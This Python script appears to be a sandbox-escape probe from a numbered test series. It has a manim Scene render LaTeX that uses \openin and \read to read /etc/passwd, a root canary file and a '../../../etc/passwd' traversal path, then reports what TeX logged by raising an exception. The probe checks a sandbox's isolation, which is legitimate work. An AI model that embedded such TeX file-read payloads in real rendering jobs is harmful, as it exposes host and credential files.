"""A11: read files line by line with \\openin/\read and log what was read, for /etc/passwd, the host
canary and (the control) a file in the job's own directory."""

import glob
import json
import random

from manim import Scene, Tex, config

PARAMS = {}
READ = (
    r"\openin\sfin={path}\relax "
    r"\ifeof\sfin\immediate\write16{{SFREAD {name}=CLOSED}}"
    r"\else\read\sfin to\sfline\immediate\write16{{SFREAD {name}=\meaning\sfline}}"
    r"\closein\sfin\fi "
)


class LatexOpenin(Scene):
    def construct(self):
        config.no_latex_cleanup = True  # keep the .log, where TeX wrote what it saw
        with open("control.txt", "w") as f:
            f.write("CONTROL-OK\n")
        paths = {
            "control": "control.txt",
            "passwd": "/etc/passwd",
            "canary": PARAMS.get("canary", "/root/canary.txt"),
            "dotdot": "../../../etc/passwd",
        }
        body = r"\newread\sfin " + "".join(READ.format(name=n, path=p) for n, p in paths.items())
        Tex(body + r"\def\sfnonce{" + str(random.random()) + "}x")
        seen = {}
        for log in glob.glob(config.get_dir("tex_dir").as_posix() + "/**/*.log", recursive=True):
            with open(log, errors="replace") as lines:
                for line in lines:
                    if line.startswith("SFREAD "):
                        name, _, value = line[7:].strip().partition("=")
                        seen[name] = value
        raise RuntimeError("REPORT " + json.dumps({"read": seen}))
